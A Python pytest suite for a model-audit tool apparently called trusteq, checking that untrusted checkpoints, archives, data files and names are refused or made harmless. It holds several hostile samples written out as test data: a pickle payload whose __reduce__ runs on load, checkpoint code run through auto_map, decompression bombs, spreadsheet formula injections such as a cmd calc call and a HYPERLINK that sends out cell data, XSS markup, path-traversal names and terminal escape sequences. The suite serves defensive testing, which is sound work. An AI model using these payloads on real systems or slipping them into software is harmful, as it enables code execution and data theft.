"""What a stranger's file may try: code in a checkpoint, markup and formulas in texts, archives that unpack to more than
there is room for, names that lead elsewhere. Each is refused with one sentence or rendered harmless."""

import json
import os
import pickle
import shutil
import zipfile

import datasets
import numpy as np
import pandas as pd
import pyarrow
import pyarrow.parquet
import pytest
from audit_examples import HOSTILE
from html_page import Page
from matplotlib.figure import Figure
from small_audits import models, report
from small_families import TEXTS, compute
from tiny_models import checkpoint

from trusteq.cli.main import main
from trusteq.records import labelled_texts, memory
from trusteq.report.write import write_report
from trusteq.resources import text as resource


def one_sentence(capsys, command, code, *parts):
    said = capsys.readouterr().err
    (line,) = (line for line in said.splitlines() if line.startswith(f"trusteq {command}: "))
    assert code == 2
    assert all(part in line for part in parts), line
    assert "Traceback" not in said


# Checkpoints that bring code.


class Payload:
    """Whoever unpickles it writes the file."""

    def __init__(self, trace):
        self.trace = trace

    def __reduce__(self):
        return open, (str(self.trace), "w")


@pytest.fixture
def trace(tmp_path):
    """What no test of this file may leave behind, but for one that says so."""
    return tmp_path / "trace"


def audit_of(place, tmp_path, folder, *more):
    data = ["--dataset", str(place / "reviews.csv"), "--dimensions", "prediction_error_jaccard"]
    large = ["--large", str(place / "large"), "--compressed", f"evil={folder}"]
    return main(["audit", *large, *data, "--out", str(tmp_path / "out"), *more])


@pytest.fixture
def evil(place, tmp_path):
    return shutil.copytree(place / "small", tmp_path / "evil")


PICKLES = ["pytorch_model.bin", "training_args.bin", "optimizer.pt", "tokenizer.pkl", "vocab.pkl", "adapter_model.bin"]


def test_a_payload_is_a_payload(trace):
    pickle.loads(pickle.dumps(Payload(trace)))
    assert trace.exists()


@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.ckpt", "pytorch_model-00001-of-00001.bin"])
def test_weights_that_are_a_pickle_are_refused(place, evil, trace, tmp_path, capsys, name):
    (evil / "model.safetensors").unlink()
    (evil / name).write_bytes(pickle.dumps(Payload(trace)))
    if "-of-" in name:
        index = {"metadata": {}, "weight_map": {"classifier.bias": name}}
        (evil / "pytorch_model.bin.index.json").write_text(json.dumps(index))
    one_sentence(capsys, "audit", audit_of(place, tmp_path, evil), "evil", "no checkpoint with safetensors")
    code = main(["compress", "prune", str(evil), "--out", str(tmp_path / "pruned")])
    one_sentence(capsys, "compress", code, "is no checkpoint that could be loaded")
    assert not trace.exists()


def test_pickles_beside_the_weights_are_not_opened(place, evil, trace, tmp_path):
    for name in PICKLES:
        (evil / name).write_bytes(pickle.dumps(Payload(trace)))
    checkpoint(evil, seed=9, labels=("negative", "positive"))
    assert audit_of(place, tmp_path, evil) == 0
    assert not trace.exists()


def test_weights_that_only_say_they_are_safetensors_are_refused(place, evil, trace, tmp_path, capsys):
    for content in (pickle.dumps(Payload(trace)), (2**60).to_bytes(8, "little") + b"{}", b""):
        (evil / "model.safetensors").write_bytes(content)
        one_sentence(capsys, "audit", audit_of(place, tmp_path, evil), "no checkpoint with safetensors")
    assert not trace.exists()


OWN = """
open({trace!r}, "w").close()
from transformers import BertConfig, BertForSequenceClassification, PreTrainedTokenizerFast
class OwnConfig(BertConfig): model_type = "own"
class OwnModel(BertForSequenceClassification): config_class = OwnConfig
class OwnTokenizer(PreTrainedTokenizerFast): pass
"""
MAP = {"AutoConfig": "own.OwnConfig", "AutoModelForSequenceClassification": "own.OwnModel"}
FAR = {name: f"somebody/elsewhere--{place}" for name, place in MAP.items()}
READS = {"AutoTokenizer": ["own.OwnTokenizer", "own.OwnTokenizer"]}
ASKING = {  # the file, what it says, and whether the checkpoint can be used without its code
    "an own kind": ("config.json", {"auto_map": MAP, "model_type": "own"}, False),
    "an own kind from elsewhere": ("config.json", {"auto_map": FAR, "model_type": "own"}, False),
    "a known kind": ("config.json", {"auto_map": MAP}, True),
    "a known kind from elsewhere": ("config.json", {"auto_map": FAR}, True),
    "an own tokenizer": ("tokenizer_config.json", {"auto_map": READS, "tokenizer_class": "OwnTokenizer"}, None),
}


def asks_for_code(folder, trace, name):
    file, settings, usable = ASKING[name]
    found = json.loads((folder / file).read_text())
    (folder / file).write_text(json.dumps(found | settings))
    (folder / "own.py").write_text(OWN.format(trace=str(trace)))
    return usable


@pytest.mark.parametrize("name", ASKING)
def test_code_of_a_checkpoint_is_not_run(place, evil, trace, tmp_path, capsys, name, monkeypatch):
    monkeypatch.setattr("builtins.input", lambda *_: pytest.fail("somebody was asked"))
    usable = asks_for_code(evil, trace, name)
    code = audit_of(place, tmp_path, evil)
    assert not trace.exists()
    assert code == 0 or usable is not True
    if code:
        one_sentence(capsys, "audit", code, "evil", "no checkpoint with safetensors that could be loaded")
    code = main(["compress", "prune", str(evil), "--out", str(tmp_path / "pruned")])
    if code:
        one_sentence(capsys, "compress", code, "no checkpoint")
    assert not trace.exists()


def test_code_of_a_checkpoint_is_run_when_that_is_asked_for(place, evil, trace, tmp_path):
    asks_for_code(evil, trace, "an own kind")
    assert audit_of(place, tmp_path, evil, "--trust-remote-code") == 0
    assert trace.exists()
    assert report(tmp_path / "out")["models"]["evil"]["parameters"] > 0


def test_links_in_a_checkpoint_lead_to_files_or_to_nothing(place, evil, tmp_path, capsys):
    (evil / "model.safetensors").rename(tmp_path / "weights")
    (evil / "model.safetensors").symlink_to(tmp_path / "weights")  # as the Hub's cache has them
    assert audit_of(place, tmp_path, evil) == 0
    shutil.rmtree(tmp_path / "out")
    for name, target in (("model.safetensors", "/dev/zero"), ("model.safetensors", "model.safetensors")):
        (evil / name).unlink()
        (evil / name).symlink_to(target)
        one_sentence(capsys, "audit", audit_of(place, tmp_path, evil), "evil")
    for target in ("/dev/zero", "/etc/passwd"):
        (evil / "config.json").unlink()
        (evil / "config.json").symlink_to(target)
        one_sentence(capsys, "audit", audit_of(place, tmp_path, evil), "evil")
    (evil / "config.json").unlink()
    os.mkfifo(evil / "config.json")  # who opened it would wait for ever
    one_sentence(capsys, "audit", audit_of(place, tmp_path, evil), "evil", "has no config.json")


# Archives.


def test_an_archive_with_pickled_objects_is_refused(trace, tmp_path, capsys):
    np.savez(tmp_path / "good.npz", labels=[0, 1])
    for name in ("labels", "other"):
        np.savez(tmp_path / "evil.npz", allow_pickle=True, **{name: np.array([Payload(trace)], dtype=object)})
        files = ["--large", str(tmp_path / "good.npz"), "--compressed", str(tmp_path / "evil.npz")]
        code = main(["compare", *files, "--out", str(tmp_path / "out")])
        one_sentence(capsys, "compare", code, "evil.npz")
    assert not trace.exists()


@pytest.fixture
def little_memory(monkeypatch):
    """A machine of 64 MB."""
    monkeypatch.setattr(memory.os, "sysconf", {"SC_PHYS_PAGES": 2**14, "SC_PAGE_SIZE": 2**12}.get)


def test_an_archive_that_unpacks_to_too_much_is_refused_before_it_is_unpacked(
    little_memory, tmp_path, capsys, monkeypatch
):
    np.savez_compressed(tmp_path / "bomb.npz", embeddings=np.zeros((2**10, 2**13)))
    assert (tmp_path / "bomb.npz").stat().st_size < 2**17
    monkeypatch.setattr(np.lib.format, "read_array", lambda *_, **__: pytest.fail("it was unpacked"))
    files = ["--large", str(tmp_path / "bomb.npz"), "--compressed", str(tmp_path / "bomb.npz")]
    code = main(["compare", *files, "--out", str(tmp_path / "out")])
    one_sentence(capsys, "compare", code, "bomb.npz unpacks to 0 GB, too much for 0 GB of memory")


def test_an_array_that_is_not_as_large_as_it_says_is_refused(tmp_path, capsys):
    for size in (10**9, 10**15, 10**30):
        header = str({"descr": "<f8", "fortran_order": False, "shape": (size,)}).encode().ljust(117) + b"\n"
        with zipfile.ZipFile(tmp_path / "bomb.npz", "w") as file:
            file.writestr("labels.npy", b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + bytes(64))
        files = ["--large", str(tmp_path / "bomb.npz"), "--compressed", str(tmp_path / "bomb.npz")]
        code = main(["compare", *files, "--out", str(tmp_path / "out")])
        one_sentence(capsys, "compare", code, "bomb.npz is not an .npz archive of plain arrays")


def parquet_of(path, count, text):
    words = pyarrow.DictionaryArray.from_arrays(np.zeros(count, dtype=np.int32), [text]).cast(pyarrow.string())
    pyarrow.parquet.write_table(pyarrow.table({"text": words, "label": np.zeros(count, np.int8)}), path)


def test_a_parquet_file_of_more_rows_than_there_is_memory_is_refused(little_memory, tmp_path):
    parquet_of(tmp_path / "bomb.parquet", 2 * 10**6, "a film")
    assert (tmp_path / "bomb.parquet").stat().st_size < 2**14
    with pytest.raises(ValueError, match=r"bomb\.parquet could not be read as parquet: .* unpacks to 0 GB, too much"):
        labelled_texts.read(str(tmp_path / "bomb.parquet"))


def test_equal_texts_of_a_parquet_file_take_the_room_of_one(tmp_path):
    parquet_of(tmp_path / "long.parquet", 300, "a film " * 10**5)
    found = labelled_texts.read(str(tmp_path / "long.parquet"))
    assert len(found.texts) == 300
    assert {id(text) for text in found.texts} == {id(found.texts[0])}


@pytest.mark.parametrize("name", ["bomb.csv.gz", "bomb.zip", "bomb.xlsx", "bomb.pkl", "bomb.csv.zst", "a/b"])
def test_only_plain_files_are_data(tmp_path, monkeypatch, name):
    """What the loader of the Hub's data sets would unpack, or look through, is never given to it."""
    monkeypatch.chdir(tmp_path)

    def load_dataset(name, *_, **__):
        if name != "a/b":
            pytest.fail("it was given to the loader")
        raise datasets.exceptions.DatasetNotFoundError("not there")

    monkeypatch.setattr(datasets, "load_dataset", load_dataset)
    if "." in name:
        (tmp_path / name).write_bytes(b"PK\x03\x04")
    else:
        (tmp_path / name.partition("/")[0]).mkdir()
    expected = r"lies here and is no data set of the Hub: give a file that ends in \.csv, \.tsv, \.jsonl, \.parquet"
    for place in (name, str(tmp_path / name)):
        if place == str(tmp_path / "a/b"):
            continue  # a path of this machine, where there is nothing
        with pytest.raises(ValueError, match=expected):
            labelled_texts.read(place)


def test_of_a_folder_only_plain_files_of_the_split_are_read(tmp_path, monkeypatch):
    monkeypatch.setattr(datasets, "load_dataset", lambda *_, **__: pytest.fail("it was given to the loader"))
    folder = tmp_path / "reviews"
    (folder / "data").mkdir(parents=True)
    for name in ("train.zip", "train.csv.gz", "train.py", "trainer.csv"):
        (folder / name).write_bytes(b"PK\x03\x04")
    with pytest.raises(ValueError, match=r"the folder .*reviews holds no file of the split 'train', such as train.csv"):
        labelled_texts.read(str(folder))
    for number, text in enumerate(("good", "dull")):
        rows = pd.DataFrame({"text": [text], "label": [number]})
        rows.to_parquet(folder / "data" / f"train-{number:05}-of-00002.parquet")
    assert labelled_texts.read(str(folder)).texts == ["good", "dull"]
    rows.drop(columns="label").to_csv(folder / "train.csv")
    with pytest.raises(ValueError, match="has the columns"):
        labelled_texts.read(str(folder))


# Texts.

FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", '=HYPERLINK("http://x/?"&A1,"good")']


def test_formulas_are_texts_and_nothing_is_written_that_a_spreadsheet_opens(place, tmp_path):
    texts = [*FORMULAS, *TEXTS]
    labels = ["negative", "positive"] * (len(texts) // 2)
    pd.DataFrame({"text": texts, "label": labels}).to_csv(tmp_path / "formulas.csv", index=False)
    assert labelled_texts.read(str(tmp_path / "formulas.csv")).texts == texts
    some = ["--dimensions", "prediction_error_jaccard", "attack_divergence", "--attack", "typos", "--attacked", "26"]
    data = ["--dataset", str(tmp_path / "formulas.csv"), "--out", str(tmp_path / "out")]
    assert main(["audit", *models(place), *data, *some]) == 0
    written = {path.suffix for path in (tmp_path / "out").rglob("*") if path.is_file() and path.parent.name != "work"}
    assert written == {".html", ".json", ".md", ".tex", ".svg"}


MARKUP = "<script>window.stolen=1</script><img src=x onerror=window.stolen=2>"


@pytest.fixture(scope="module")
def hostile_report(place, tmp_path_factory):
    """A real audit in which every name and every text is markup."""
    folder = tmp_path_factory.mktemp("hostile")
    names = (f"bad{MARKUP}", "good</td></table><iframe src=javascript:alert(1)>")
    for seed, name in enumerate(("large", "small")):
        checkpoint(folder / name, seed=seed, labels=names)
    texts = [f"{text} {HOSTILE[i % 5].replace(chr(0xD800), '')} {MARKUP}" for i, text in enumerate(TEXTS)]
    file = folder / "<img src=x onerror=window.stolen=3>.csv"
    table = pd.DataFrame({MARKUP: texts, "label": [names[i % 2] for i in range(len(texts))]})
    table.to_csv(file, index=False)
    named = f"<script>window.stolen++<br>={folder / 'small'}"  # a slash would make it a path
    family = ["--large", str(folder / "large"), "--compressed", named]
    some = ["--dimensions", "prediction_error_jaccard", "attribution_alignment", "attack_divergence"]
    some += ["--method", "occlusion", "--explained", "3", "--attacked", "20", "--attack", "deepwordbug"]
    data = ["--dataset", str(file), "--text", MARKUP, "--out", str(folder / "out")]
    assert main(["audit", *family, *data, *some]) == 0
    return folder / "out"


OF_DATA = {"type": "application/json", "id": "data"}


def test_markup_in_a_data_set_is_shown_as_it_is(hostile_report):
    page = Page((hostile_report / "report.html").read_text(encoding="utf-8"))
    assert {"img", "iframe"}.isdisjoint(name for name, _ in page.elements)
    assert [given for name, given in page.elements if name == "script"] == [OF_DATA, {}]
    for _, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")]
        assert not [value for value in attributes.values() if value and "javascript:" in value.lower()]
    assert "<script>window.stolen=1</script>" in page.text
    assert "<script>window.stolen++<br>" in page.text
    assert "<img src=x onerror=window.stolen=3>.csv" in page.text


@pytest.mark.parametrize("name", ["report.md", "model_card.md"])
def test_markup_in_a_data_set_is_none_in_markdown(hostile_report, name):
    text = (hostile_report / name).read_text(encoding="utf-8")
    body = text.split("---\n", 2)[2] if name == "model_card.md" else text
    assert "<" not in body
    assert "](javascript" not in body.replace("\\](", "").replace("\\]\\(", "")


def test_markup_in_a_data_set_is_none_in_latex(hostile_report):
    for path in (hostile_report / "tables").iterdir():
        code = "".join(line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("%"))
        assert "\\input" not in code
        assert "<" not in code


def test_in_a_browser_nothing_of_a_data_set_is_run(hostile_report, browser):
    opened = browser.new_page()
    asked, said = [], []
    opened.on("request", lambda request: asked.append(request.url))
    opened.on("dialog", lambda dialog: said.append(dialog.message))
    address = (hostile_report / "report.html").as_uri()
    for lists in range(10):  # all that the page's own script shows
        opened.goto(f"{address}#browse?kind={lists}")
        opened.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    assert opened.evaluate("window.stolen") is None
    data, own = opened.evaluate("[...document.scripts].map(one => one.text)")
    assert "<" not in data
    assert own == resource("report/page.js")
    assert {url.partition("#")[0] for url in asked if not url.startswith("data:")} == {address}
    assert said == []
    opened.close()


# Names.

ODD = ["../../escaped", "/etc/passwd", "a\x00b", "line\nbreak", "CON", "long-" * 100, "..", "~", "a/b\\c:d"]
ODD += ["\x1b]0;title\x07"]


def test_names_of_models_lead_nowhere(tmp_path):
    def model(shift):
        return lambda texts: [[0.2 + shift / 50, 0.8 - shift / 50] for _ in texts]

    out = tmp_path / "deep" / "out"
    named = {name: model(i + 1) for i, name in enumerate(ODD)}
    result = compute(large=model(0), compressed=named, dimensions=["prediction_error_jaccard"], data_name="../../data")
    written = write_report(result["details"], out, lambda dimension, pair: Figure(figsize=(2, 1)))
    assert {path for path in tmp_path.rglob("*") if path.is_file()} == set(written)
    assert all(path.resolve().is_relative_to(out) and len(path.name) < 100 for path in written)
    assert len([path for path in written if path.name.startswith("model_card")]) == len(ODD)


def test_models_and_data_that_lead_elsewhere_are_a_sentence(place, tmp_path, capsys):
    out = ["--out", str(tmp_path / "out"), "--dimensions", "prediction_error_jaccard"]
    data = ["--dataset", str(place / "reviews.csv")]
    for name in ("../../etc/x", "/etc", "/etc/passwd", "../" * 40, "/" + "long" * 2000, "./line\nbreak", "~nobody/x"):
        code = main(["audit", "--large", str(place / "large"), "--compressed", name, *data, *out])
        one_sentence(capsys, "audit", code)
    for name in ("../../etc/x.csv", "/etc/x.csv", "/" + "long" * 2000 + ".csv", "line\nbreak.csv", "/etc", "/dev/zero"):
        code = main(["audit", *models(place), "--dataset", name, *out])
        one_sentence(capsys, "audit", code)


def test_a_terminal_obeys_no_name(place, tmp_path, capsys):
    evil = "\x1b]0;title\x07\x1b[2J"
    pd.DataFrame({evil: TEXTS, "label": "positive"}).to_csv(tmp_path / "evil.csv", index=False)
    code = main(["audit", *models(place), "--dataset", str(tmp_path / "evil.csv"), "--out", str(tmp_path / "o")])
    said = capsys.readouterr()
    assert code == 2
    assert "no column 'text'" in said.err
    assert "\x1b" not in said.err + said.out
